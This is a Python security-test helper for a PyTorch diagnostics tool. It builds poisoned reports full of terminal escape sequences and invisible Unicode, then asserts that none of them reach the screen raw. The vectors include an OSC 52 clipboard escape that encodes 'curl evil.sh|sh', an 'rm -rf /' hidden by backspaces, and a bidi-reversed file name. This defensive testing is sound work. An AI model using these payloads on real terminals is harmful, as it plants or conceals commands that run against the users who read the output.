"""What an attacker puts in a report attached to an issue, and the oracle that says
whether any of it reached the maintainer's screen raw.

Shared by tests/security/test_security_*.py (import it as ``import hostile``).
"""

import copy
import json
import os
import subprocess
import sys
import unicodedata

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))

# Each vector is something a terminal obeys or that hides text from the reader.
VECTORS = {
    "OSC 0 window title": "\x1b]0;pwned\x07",
    "OSC 52 clipboard": "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07",
    "OSC 8 hyperlink": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "CSI 2J clear screen": "\x1b[2J\x1b[H",
    "ESC c reset": "\x1bc",
    "ESC ( 0 line drawing": "\x1b(0lqqk\x1b(B",
    "ESC 7 / ESC 8 cursor": "\x1b7hidden\x1b8",
    "ESC # 8 fill with E": "\x1b#8",
    "SGR conceal": "\x1b[8msecret\x1b[0m",
    "C1 CSI U+009B": "\x9b2J",
    "C1 OSC U+009D ... ST U+009C": "\x9d0;pwned\x9c",
    "C1 DCS U+0090": "\x90q\x9c",
    "backspace": "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls",
    "carriage return": "evil command\rsafe",
    "DEL": "ab\x7fc",
    "BEL": "\x07",
    "NUL": "a\x00b",
    "bidi override U+202E": "\u202egnp.exe",
    "bidi embeddings U+202A-U+202D": "\u202a\u202b\u202c\u202d",
    "bidi isolates U+2066-U+2069": "\u2066\u2067\u2068\u2069",
    "zero-width space, joiner, BOM": "to\u200bken\u200d\ufeff",
    "line/paragraph separator": "a\u2028b\u2029c",
    "tag characters": "\U000e0041\U000e0042",
    "soft hyphen": "pass\u00adword",
}
PAYLOAD = "".join(VECTORS.values())
# What a command line or a text paste can carry: no NUL (argv cannot, and a paste with
# one is refused as binary).
PAYLOAD_TEXT = PAYLOAD.replace("\x00", "")
# Short enough that a Markdown report of a poisoned report keeps its facts block.
PAYLOAD_SHORT = "\x1b]0;t\x07\x1b[2J\x9b2J\x9d0;t\x9c\x08\x7f\u202e\u2066\u200b"

# What torchdoctor's own output may contain: newline and tab (layout) only.
LAYOUT = "\n\t"


def _hidden_chars():
    from torchdoctor.render.safe import HIDDEN_CATEGORIES
    return "".join(chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) in HIDDEN_CATEGORIES)


_ALL = []


def every_hidden_char():
    """Every code point of the categories terminals obey or readers cannot see (about
    2,300: C0, DEL, C1, format characters, surrogates, line/paragraph separators)."""
    if not _ALL:
        _ALL.append(_hidden_chars())
    return _ALL[0]


def raw_controls(text, keep=LAYOUT):
    """The hidden characters in `text` that are not layout, with their positions (empty: safe)."""
    from torchdoctor.render.safe import is_hidden
    return [(i, "U+%04X" % ord(c)) for i, c in enumerate(text) if c not in keep and is_hidden(c)]


def assert_no_raw(text, what="output"):
    if isinstance(text, bytes):
        text = text.decode("utf-8", "surrogateescape")
    found = raw_controls(text)
    assert not found, "%s carries raw control characters: %s ... near %r" % (
        what, found[:8], text[max(0, found[0][0] - 40):found[0][0] + 40])


# ------------------------------------------------------------------ reports --
BASE = {
    "schema_version": 1, "source": "probe", "collected_at": "2025-01-01T00:00:00+0000",
    "tool": {"name": "torchdoctor", "version": "0.1.0"},
    "probe": {"completed": True, "last_stage": "done", "python": "/usr/bin/python3", "total_s": 2.5},
    "torch_import": {"ok": True},
    "torch": {"version": "2.5.1+cu121", "cuda": "12.1", "hip": {"_absent": "not built with it"}, "debug": False,
              "git_version": "a8d6afb511a69687bbb2b7e88a3cf67917e1697e", "file": "/opt/venv/torch/__init__.py",
              "config": {"lines": ["GCC 9.3", "CUDA Runtime 12.1"]}},
    "cuda": {"is_available": True, "device_count": 1, "arch_list": ["sm_50", "sm_80", "sm_86", "sm_90"],
             "devices": [{"index": 0, "name": "NVIDIA GeForce RTX 4090", "capability": [8, 9],
                          "total_memory": 25393692672}]},
    "backends": {"cudnn": {"is_available": True, "version": 90100, "enabled": True, "benchmark": False}},
    "driver": {"present": True, "driver_version": "550.54.14", "cuda_driver_version": "12.4",
               "gpus": [{"index": 0, "name": "NVIDIA GeForce RTX 4090", "capability": [8, 9],
                         "uuid": "GPU-<redacted>", "memory_total_mib": 24564}]},
    "toolkit": {"nvcc": "/usr/local/cuda/bin/nvcc", "nvcc_version": "12.1"},
    "os": {"system": "Linux", "distro": "Ubuntu 22.04.4 LTS", "machine": "x86_64", "release": "6.5.0-41-generic",
           "libc": "glibc 2.35", "container": "docker"},
    "cpu": {"model": "AMD EPYC 7763", "physical_cores": 64, "logical_cores": 128, "flags": ["avx2", "avx512f"]},
    "memory": {"total": 270000000000, "available": 200000000000},
    "python": {"version": "3.11.9", "implementation": "CPython", "executable": "/usr/bin/python3",
               "virtualenv": True, "conda": False, "sys_version": "3.11.9 (main) [GCC 11.4.0]"},
    "packages": {"installed": {"torch": {"version": "2.5.1+cu121", "installer": "pip"},
                               "torchvision": {"version": "0.19.0+cu121"},
                               "numpy": {"version": "2.1.0"}, "triton": {"version": "3.1.0"}}},
    "env": {"CUDA_VISIBLE_DEVICES": "0", "OMP_NUM_THREADS": "8", "PYTORCH_CUDA_ALLOC_CONF": "expandable_segments:True",
            "CUDA_HOME": "/usr/local/cuda", "LD_LIBRARY_PATH": "/usr/local/cuda/lib64"},
}


def poison(node, payload=PAYLOAD, keys=False, where="append"):
    """A copy of a JSON tree with `payload` in every string value (appended, prepended
    or instead), and with `keys` in every key of the name-keyed maps (env vars,
    packages), so names carry it too."""
    if isinstance(node, str):
        return {"append": node + payload, "prepend": payload + node, "replace": payload}[where]
    if isinstance(node, list):
        return [poison(x, payload, keys, where) for x in node]
    if isinstance(node, dict):
        out = {}
        for k, v in node.items():
            nk = k
            if keys and k not in ("_absent", "_failed") and not k.startswith("schema"):
                nk = k + payload
            out[nk] = poison(v, payload, keys, where)
        return out
    return node


def evil_facts(payload=PAYLOAD, where="append"):
    """BASE with `payload` in every string, and in the names of env vars and packages."""
    facts = poison(copy.deepcopy(BASE), payload, where=where)
    facts["schema_version"] = 1
    for section in ("env",):
        facts[section] = {k + payload: v for k, v in facts[section].items()}
    facts["env"]["PYTORCH_CUDA_ALLOC_CONF"] = "bogus_key%s:1" % payload  # a finding that quotes the value
    inst = facts["packages"]["installed"]
    inst["evil" + payload] = {"version": "1.0" + payload}
    return facts


def evil_report(payload=PAYLOAD, where="append"):
    """A whole report document: evil facts and evil findings (as a stranger could write them)."""
    f = {"id": "x" + payload, "category": "install" + payload, "severity": "error", "title": "t" + payload,
         "detail": "d" + payload, "fix": {"summary": "s" + payload, "commands": ["pip install x" + payload]},
         "links": ["https://example.com/" + payload]}
    return {"schema_version": 1, "facts": evil_facts(payload, where), "findings": [f]}


def write_json(path, doc):
    with open(str(path), "w", encoding="ascii") as fh:
        json.dump(doc, fh)
    return str(path)


def good_report(tmp_path, name="good.json"):
    from torchdoctor.diagnose import diagnose
    from torchdoctor.model.facts import Facts
    return write_json(os.path.join(str(tmp_path), name), diagnose(Facts(copy.deepcopy(BASE))).to_dict())


# --------------------------------------------------------------------- runs --
def run(*args, stdin=None, env=None, timeout=300, **kw):
    """`python -m torchdoctor ARGS` in a child, output as bytes (never decoded lossy)."""
    e = dict(os.environ, PYTHONPATH=ROOT)
    e.pop("NO_COLOR", None)
    e.update(env or {})
    return subprocess.run([sys.executable, "-m", "torchdoctor"] + [str(a) for a in args], env=e,
                          input=stdin, capture_output=True, timeout=timeout, cwd=ROOT, **kw)


def run_tty(*args, env=None, timeout=300):
    """`python -m torchdoctor ARGS` with its stdout on a pseudo-terminal, as a maintainer
    runs it (colour on, click strips nothing): (returncode, stdout text, stderr bytes)."""
    import pty
    import select
    e = dict(os.environ, PYTHONPATH=ROOT, TERM="xterm-256color")
    e.pop("NO_COLOR", None)
    e.update(env or {})
    master, slave = pty.openpty()
    p = subprocess.Popen([sys.executable, "-m", "torchdoctor"] + [str(a) for a in args], env=e, cwd=ROOT,
                         stdin=subprocess.DEVNULL, stdout=slave, stderr=subprocess.PIPE)
    os.close(slave)
    chunks = []
    while True:
        r, _, _ = select.select([master], [], [], timeout)
        if not r:
            p.kill()
            raise AssertionError("no output for %d s" % timeout)
        try:
            data = os.read(master, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not data:
            break
        chunks.append(data)
    os.close(master)
    err = p.stderr.read()
    p.stderr.close()
    rc = p.wait(timeout)
    # the terminal's line discipline turns every newline into CR LF
    return rc, b"".join(chunks).decode("utf-8", "surrogateescape").replace("\r\n", "\n"), err


def no_traceback(p):
    assert b"Traceback" not in p.stderr, p.stderr[-3000:]


# ---------------------------------------------------------------- renderers --
def _own_sgr():
    import re
    from torchdoctor.render.style import COLORS
    return re.compile(r"\x1b\[(?:%s)m" % "|".join(re.escape(c) for c in set(COLORS.values()) | {"0"}))


ERROR_LINES = ["RuntimeError: Torch not compiled with CUDA enabled", "torch.OutOfMemoryError: CUDA out of memory.",
               "RuntimeError: CUDA error: no kernel image is available for execution on the device",
               "ImportError: libcudnn.so.9: cannot open shared object file: No such file or directory",
               "A module that was compiled using NumPy 1.x cannot be run in NumPy 2.0.0 as it may crash."]


def report_renderings(facts_data, findings=None):
    """(name, text) of every renderer that draws a report, from one facts tree."""
    from torchdoctor.verbs.report import render_report
    from torchdoctor.verbs.diff import diff_reports, render_diff_text
    from torchdoctor.model.findings import Finding
    from torchdoctor.render import collect_env_view as CE
    from torchdoctor.render.markdown import render_markdown
    from torchdoctor.render.text import render_check, render_explain, render_finding
    from torchdoctor.diagnose import diagnose, explain
    from torchdoctor.match.matcher import match_text
    from torchdoctor.model.facts import Facts
    from torchdoctor.render.style import Style
    from torchdoctor.verbs.triage import render_triage_text, triage_text
    OWN_SGR = _own_sgr()
    rep = diagnose(Facts(copy.deepcopy(facts_data)))
    for f in findings or ():
        rep.findings.append(Finding.from_dict(f))
    out = [("check text", render_check(rep, Style(color=False))),
           ("check text, coloured", OWN_SGR.sub("", render_check(rep, Style(color=True)))),
           ("check --from footer", render_check(rep, Style(), footer="re-diagnosed from x (collected %s)"
                                                % rep.facts.value("collected_at"))),
           ("markdown", render_markdown(rep)), ("report text", render_report(rep, "text")),
           ("collect_env view", CE.render_text(rep.facts))]
    out += [("finding text", "\n".join(render_finding(f, Style(color=False)))) for f in rep.findings[:3]]
    doc = json.dumps({"schema_version": 1, "facts": rep.facts.to_dict()})
    tri = triage_text(doc, "evil.json")
    out.append(("triage text", render_triage_text(tri, Style(color=False))))
    good = triage_text(json.dumps({"schema_version": 1, "facts": copy.deepcopy(BASE)}), "good.json")
    for name, (a, b) in (("diff evil good", (tri, good)), ("diff good evil", (good, tri))):
        out.append((name, render_diff_text(diff_reports(a, b, "a", "b", show_all=True))))
    exps, _ = explain("\n".join(ERROR_LINES), facts=rep.facts)
    out.append(("explain text, tailored", render_explain(exps, Style(color=False), show_all=True)))
    return out
